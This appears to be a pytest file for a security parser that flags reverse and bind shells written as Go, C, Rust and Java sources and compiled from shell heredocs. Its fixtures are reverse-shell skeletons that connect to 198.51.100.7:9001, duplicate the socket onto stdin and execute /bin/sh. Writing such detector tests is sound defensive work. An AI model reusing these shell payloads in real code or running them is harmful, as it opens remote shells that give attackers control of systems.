"""Sources of compiled languages that the judged text wrote: a shell on a socket is seen."""

from __future__ import annotations

import pytest

from guard.parse.budget import Budget, Limits
from guard.parse.shell import read_shell

GO = """package main
import ("net"; "os/exec")
func main() { c, _ := net.%s("tcp", "198.51.100.7:9001"); p := exec.Command(%s); p.Stdin = c }
"""
C = """#include <sys/socket.h>
int main(void) { int s = socket(2, 1, 0); a.sin_port = htons(9001); inet_addr("198.51.100.7");
  %s dup2(s, 0); execl(%s, 0); }
"""
RUST = 'fn main() { let s = TcpStream::connect("198.51.100.7:9001"); Command::new(%s).spawn(); }\n'
JAVA = 'Process p = new ProcessBuilder(%s).start(); Socket s = new Socket("198.51.100.7", 9001);\n'
SH, GIT = '"/bin/sh"', '"git"'


def _shells(name: str, source: str, command: str) -> list[tuple[str, int | None]]:
    text = f"cat > {name} <<'END'\n{source}END\n{command}\n"
    parsed = read_shell(text, Budget(Limits(cpu_seconds=10)))
    return [(o["direction"], o["port"]) for o in parsed.operations if o["kind"] == "network.shell"]


@pytest.mark.parametrize(
    ("name", "source", "command"),
    [
        ("m.go", GO % ("Dial", SH), "go run m.go"),
        ("m.go", GO % ("Dial", SH), "go build -o m m.go && ./m"),
        ("main.go", GO % ("Dial", SH), "go build . && ./m"),
        ("main.go", GO % ("Dial", SH), "go run ."),
        ("m.c", C % ("connect(s, a, 8);", SH), "gcc -O2 m.c -o m && ./m"),
        ("m.c", C % ("connect(s, a, 8);", SH), "cc m.c"),
        ("m.cpp", C % ("connect(s, a, 8);", SH), "clang++ -o m m.cpp"),
        ("m.rs", RUST % SH, "rustc m.rs && ./m"),
        ("M.java", JAVA % SH, "javac M.java && java M"),
    ],
)
def test_a_shell_on_a_socket_is_seen_in_a_source(name: str, source: str, command: str) -> None:
    """Whatever compiles it, with the port that the source names."""
    assert ("reverse", 9001) in _shells(name, source, command)


def test_a_shell_that_waits_is_a_bind_shell() -> None:
    """A source that listens."""
    assert _shells("m.go", GO % ("Listen", SH), "go run m.go") == [("bind", 9001)]


SYSTEM_CALLS = """package main
import "syscall"
func main() { s, _ := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0)
  syscall.%s; syscall.Dup2(s, 0); syscall.Exec("/bin/sh", nil, nil) }
"""


@pytest.mark.parametrize(
    ("call", "direction"),
    [("Connect(s, &syscall.SockaddrInet4{Port: 9001})", "reverse"), ("Listen(s, 1)", "bind")],
)
def test_bare_system_calls_are_sockets_too(call: str, direction: str) -> None:
    """Go needs no package of the network for one."""
    found = _shells("m.go", SYSTEM_CALLS % call, "go run m.go")
    assert [way for way, _ in found] == [direction]
    assert _shells("m.c", C % ("listen(s, 1);", SH), "cc m.c") == [("bind", 9001)]


@pytest.mark.parametrize(
    ("name", "source", "command"),
    [
        ("m.go", GO % ("Dial", GIT), "go build m.go"),
        ("m.go", GO % ("Dial", "os.Args[1]"), "go run m.go"),
        ("m.c", C % ("connect(s, a, 8);", GIT), "cc m.c"),
        ("m.c", 'int main(void) { system("sh -c ls"); }\n', "cc m.c"),
        ("m.rs", RUST % GIT, "rustc m.rs"),
        ("m.go", GO % ("Dial", SH), "gofmt -l m.go"),
    ],
)
def test_sources_without_both_are_silent(name: str, source: str, command: str) -> None:
    """A socket and another program, a shell and no socket, and a source that is only read."""
    assert _shells(name, source, command) == []
